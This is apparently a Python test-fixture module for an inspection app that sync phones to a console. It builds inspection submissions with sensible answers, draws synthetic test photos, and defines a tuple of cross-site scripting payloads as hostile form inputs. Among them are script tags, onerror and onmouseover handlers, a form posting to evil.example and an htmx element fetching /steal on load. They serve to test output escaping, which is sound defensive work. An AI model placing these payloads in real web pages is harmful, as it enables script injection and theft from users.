"""What the phones of the console's morning send: checks with a sensible answer to every question, pictures, and hostile words."""

from __future__ import annotations

import io
from datetime import date, datetime, timedelta

from PIL import Image, ImageDraw

from sync.records.fact import InspectionSubmitted
from sync.records.inspection import Answer, Inspection, NewHazard
from sync.records.task import Task
from sync.records.template import AnswerKind, Need, Template, TemplateItem
from sync.records.types import PhotoRef
from sync.rules.answers import items_for
from tests.records import NOON, new_id

TODAY = date(2026, 11, 20)
XSS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '" onmouseover=alert(3) x="',
    "{{7*7}}",
    "javascript:alert(4)",
    "</script><script>alert(5)</script>",
    "<form action=//evil.example><button>",
    "<div hx-get=/steal hx-trigger=load></div>",
    "<div hx-on:click=alert(6)></div>",
)


def check(
    task: Task,
    template: Template,
    *,
    author: str,
    photos: tuple[PhotoRef, ...] = (),
    note: str = "",
    is_abnormal: bool = False,
    at: datetime = NOON,
) -> InspectionSubmitted:
    """A check of this task with a sensible answer to every question that must be answered."""
    items = [item for item in items_for(template, None) if item.need is not Need.ON_FAULT and item.type is not AnswerKind.PHOTO]
    answers = [_answer(item, note) for item in items]
    hazards: tuple[NewHazard, ...] = ()
    abnormal: tuple[str, ...] = ()
    first_ok = next((n for n, item in enumerate(items) if item.type is AnswerKind.OK), None)
    if is_abnormal and first_ok is not None:
        answers[first_ok] = Answer(i=items[first_ok].code, v="abnormal", note="锈蚀，需更换")
        abnormal = (items[first_ok].code,)
        hazards = (NewHazard(id=new_id(), item=items[first_ok].code, text="锈蚀，需更换"),)
    body = Inspection(
        template=template.code, version=template.version, task=task.id, started_at=at - timedelta(minutes=9),
        answers=tuple(answers), abnormal=abnormal, hazards=hazards, reason=note,
    )  # fmt: skip
    return InspectionSubmitted(
        id=new_id(), schema=1, author=author, site=task.site, subject=task.subject, made_at=at - timedelta(minutes=7),
        boot_ns=10**12 - 420 * 10**9, boot_id="boot-1", photos=photos, body=body,
    )  # fmt: skip


def _answer(item: TemplateItem, note: str) -> Answer:
    value: float | int | str | None
    match item.type:
        case AnswerKind.OK:
            value = "normal"
        case AnswerKind.NUM | AnswerKind.SCORE | AnswerKind.COUNT:
            low, high = item.warn_low if item.warn_low is not None else item.minimum, item.warn_high
            middle = ((low or 0) + (high if high is not None else item.maximum or 0)) / 2
            value = int(middle) if item.type is AnswerKind.COUNT else round(middle, 1)
        case AnswerKind.CHOICE:
            value = next(choice.code for choice in item.choices if not choice.is_abnormal)
        case AnswerKind.DATE:
            value = TODAY.isoformat()
        case AnswerKind.TIME:
            value = "11:50"
        case AnswerKind.SIGN:
            value = "a" * 64
        case _:
            value = note or "ok"
    return Answer(i=item.code, v=value, note=note[:100])


def picture(n: int, label: str) -> bytes:
    image = Image.new("RGB", (800, 600), ((180 + 17 * n) % 256, 40 + 40 * n, 60 + len(label) * 3))
    draw = ImageDraw.Draw(image)
    draw.rounded_rectangle((300, 120, 500, 520), 60, fill=(200, 30, 30), outline=(30, 30, 30), width=8)
    draw.rectangle((350, 70, 450, 130), fill=(40, 40, 40))
    draw.ellipse((360, 220, 440, 300), fill=(240, 240, 240), outline=(20, 20, 20), width=4)
    out = io.BytesIO()
    image.save(out, "JPEG", quality=85)
    return out.getvalue()
